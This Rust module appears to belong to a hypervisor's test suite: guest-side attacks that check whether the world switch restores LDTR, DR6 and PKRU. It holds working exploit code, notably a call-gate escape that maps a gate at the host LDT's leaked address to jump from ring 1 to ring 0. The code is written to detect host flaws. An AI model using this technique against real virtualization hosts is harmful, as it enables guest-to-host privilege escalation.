//! The host's own state, which a ring-1 guest reaches when the world switch forgets it: three
//! registers the Switcher must load for the guest, or load back for the host.
//!
//! - `ldt-call-gate`: LDTR. The Switcher loads the guest's GDT, TSS and IDT; if it leaves LDTR
//!   alone, a launcher with an LDT of its own (modify_ldt) keeps it loaded while the guest runs,
//!   and the CPU reads LDT descriptors at a host kernel address through the guest's page tables,
//!   which the guest writes. A far call through an LDT selector then first tells the guest where
//!   the host's LDT is (its #PF's CR2), and once the guest maps a page of its own there, with a
//!   call gate in it, takes ring 1 into ring 0. With LDTR null while the guest runs, the far call
//!   is a #GP, and the guest dies of it: it has a handler for page faults only.
//! - `single-step`: DR6. The guest sets the trap flag; the CPU raises #DB after one instruction
//!   and sets DR6.BS, which it never clears. Linux reads and resets DR6 only in its own #DB
//!   handler, so a host that leaves BS set makes the next #DB on that CPU look like a single
//!   step (the e2e test's `int1` sees it). The guest itself dies of the #DB: it has no handler.
//! - `pkru`: PKRU. Ring 1 may write it (WRPKRU is not privileged), and Linux does not load it on
//!   the way back to user space, so a host that does not put the launcher's back leaves the
//!   launcher with the guest's protection keys. Writing PKRU is the guest's right: it powers off,
//!   and the e2e test looks at the launcher.

use core::arch::{asm, global_asm};
use core::ptr;
use core::sync::atomic::Ordering;

use lguest_abi::hcall::idt_gate;

use crate::attacks::{Ctx, HOST_RANGES};
use crate::hcall::poweroff;
use crate::page_tables::{self, Table, P, W};
use crate::println;
use crate::traps;

// ---- The LDT ----------------------------------------------------------------------------------

/// LDT entry 0 with RPL 1: bit 2 (TI) picks the LDT rather than the GDT.
const LDT_SELECTOR: u16 = 0b100 | 1;
/// The host's ring-0 code segment in the guest's GDT (entry 2, the Switcher's: lguest-abi's
/// boot.rs), where the guest's call gate leads.
const HOST_CS: u64 = 0x10;
/// A call gate's type, in the same 16-byte layout as an IDT gate (SDM 3A 5.8.3.1), and the DPL
/// that lets ring 1 use it.
const CALL_GATE: u64 = 0xc;
const GATE_DPL: u64 = 1;
/// The length of `call far [rax]` (FF /3, ModRM 0x18): what the #PF handler skips.
const FAR_CALL_LEN: u64 = 2;
/// What RCX still holds if the gate's target never ran.
const NEVER_RAN: u64 = u64::MAX;

/// The operand of `call far [rax]`: a 4-byte offset, then the selector. Through a call gate the
/// offset is not used: the gate says where to go.
#[repr(C, packed)]
struct FarPointer {
    offset: u32,
    selector: u16,
}

// Where the call gate leads: ring 0, if the CPU takes the gate. It reads CS (whose RPL is the
// CPL) into RCX and goes back to ring 1 with `lretq`, which pops RIP and CS and, as it returns to
// an outer ring, RSP and SS. As few instructions as can be: a host interrupt may arrive here,
// and nothing in the Switcher expects one from ring 0.
global_asm!(
    ".global ring1_ldt_gate_target",
    "ring1_ldt_gate_target:",
    "mov rcx, cs",
    // lretq: REX.W retf.
    ".byte 0x48, 0xcb",
);

extern "C" {
    fn ring1_ldt_gate_target();
}

/// One far call through LDT_SELECTOR: the CS its target ran with, or `None` if the call
/// faulted and the #PF handler skipped it.
fn far_call_through_ldt() -> Option<u64> {
    let pointer = FarPointer {
        offset: 0,
        selector: LDT_SELECTOR,
    };
    traps::SKIP.store(FAR_CALL_LEN, Ordering::SeqCst);
    let cs: u64;
    // SAFETY: the attack. The call faults (a #PF, which the handler skips, or a #GP, which kills
    // us), or goes through our own call gate to ring1_ldt_gate_target, which writes only RCX
    // and comes back here, to ring 1, with our RSP. `pointer` lives until the call is over.
    unsafe {
        asm!(
            // call far [rax]
            ".byte 0xff, 0x18",
            in("rax") ptr::addr_of!(pointer),
            inout("rcx") NEVER_RAN => cs,
        )
    };
    (cs != NEVER_RAN).then_some(cs)
}

/// The page the guest puts at the host LDT's address, and the tables that map it there.
static mut OWN_LDT: Table = Table([0; 512]);
static mut LDT_PDPT: Table = Table([0; 512]);
static mut LDT_PD: Table = Table([0; 512]);
static mut LDT_PT: Table = Table([0; 512]);

/// Switches to page tables of the guest's own: RAM identity-mapped (page_tables.rs), and OWN_LDT at
/// `va`, with a call gate to ring 0 where LDT entry 0 is read.
fn map_call_gate_at(va: u64) {
    let target = ring1_ldt_gate_target as *const () as u64;
    let [low, high] = idt_gate(target, HOST_CS, CALL_GATE, GATE_DPL);
    let index = |shift: u64| ((va >> shift) & 511) as usize;
    // SAFETY: single CPU; the tables are ours (ram_identity_tables) and not loaded until
    // load_own_tables. `va` is in the upper half (a host address), so its PML4 slot is not the
    // identity map's.
    unsafe {
        let entry = (va & 0xfff) as usize / 8;
        let ldt = &mut (*ptr::addr_of_mut!(OWN_LDT)).0;
        ldt[entry] = low;
        ldt[entry + 1] = high;
        let (_, pml4) = page_tables::ram_identity_tables();
        pml4[index(39)] = ptr::addr_of!(LDT_PDPT) as u64 | P | W;
        (*ptr::addr_of_mut!(LDT_PDPT)).0[index(30)] = ptr::addr_of!(LDT_PD) as u64 | P | W;
        (*ptr::addr_of_mut!(LDT_PD)).0[index(21)] = ptr::addr_of!(LDT_PT) as u64 | P | W;
        // Read-only: the CPU only reads a call gate.
        (*ptr::addr_of_mut!(LDT_PT)).0[index(12)] = ptr::addr_of!(OWN_LDT) as u64 | P;
    }
    page_tables::load_own_tables();
}

/// `ldt-call-gate`: a far call through LDT entry 0, which must be #GP (no LDT) and kill us. If
/// it page-faults instead, the fault's address is the host's LDT: map a call gate there and
/// call again.
pub(crate) fn ldt_call_gate(c: &Ctx) -> ! {
    traps::install_page_fault_handler();
    if let Some(cs) = far_call_through_ldt() {
        c.survived(format_args!(
            "the far call through LDT selector {LDT_SELECTOR:#x} reached cs={cs:#x} unaided"
        ));
    }
    let [_, error, _, cr2, _] = traps::seen();
    if !HOST_RANGES.iter().any(|&(lo, hi)| (lo..hi).contains(&cr2)) {
        c.survived(format_args!(
            "the far call through LDT selector {LDT_SELECTOR:#x} page-faulted at {cr2:#x} \
             (error {error:#x})"
        ));
    }
    println!(
        "ldt-call-gate: the LDT descriptor read page-faulted at host address {cr2:#x}; mapping \
         a call gate to ring 0 there"
    );
    map_call_gate_at(cr2);
    match far_call_through_ldt() {
        Some(cs) => c.survived(format_args!(
            "reached CPL {} (cs={cs:#x}) through a call gate of the guest's at the host LDT's \
             address {cr2:#x}",
            cs & 3
        )),
        None => c.survived(format_args!(
            "host address {cr2:#x} in CR2; the call gate mapped there was not taken"
        )),
    }
}

// ---- Debug status -----------------------------------------------------------------------------

/// `single-step`: the trap flag on for one instruction. The #DB after the `nop` must kill us
/// (no handler); were it somehow ignored, the flag goes off again.
pub(crate) fn single_step(c: &Ctx) -> ! {
    // SAFETY: the attack; popfq may change TF at any CPL, and the stack is as it was after each
    // pushfq/popfq pair.
    unsafe {
        asm!(
            "pushfq",
            "bts qword ptr [rsp], 8",
            "popfq",
            "nop",
            "pushfq",
            "btr qword ptr [rsp], 8",
            "popfq",
        )
    };
    c.survived(format_args!(
        "ran with the trap flag set and no #DB handler"
    ))
}

// ---- Protection keys --------------------------------------------------------------------------

/// The PKRU `pkru` writes: keys 1-7 write-disabled, 8-15 access-disabled, and key 0 (every
/// page's, unless given another) open, so a launcher left with it still runs and can be checked.
/// Linux's default is 0x55555554; no process has this one by chance.
const GUEST_PKRU: u32 = 0x5555_aaa8;

/// `pkru`: write PKRU, read it back, and power off.
pub(crate) fn pkru(_: &Ctx) -> ! {
    // SAFETY: WRPKRU (CR4.PKE is the host's, and on) changes only PKRU, which governs user
    // pages; this kernel runs on supervisor pages, so nothing of ours changes.
    unsafe { asm!("wrpkru", in("eax") GUEST_PKRU, in("ecx") 0, in("edx") 0, options(nostack)) };
    let back: u32;
    // SAFETY: RDPKRU only reads the register.
    unsafe { asm!("rdpkru", in("ecx") 0, out("eax") back, out("edx") _, options(nomem, nostack)) };
    println!("pkru: wrote {GUEST_PKRU:#x}, read back {back:#x}");
    poweroff("pkru done")
}
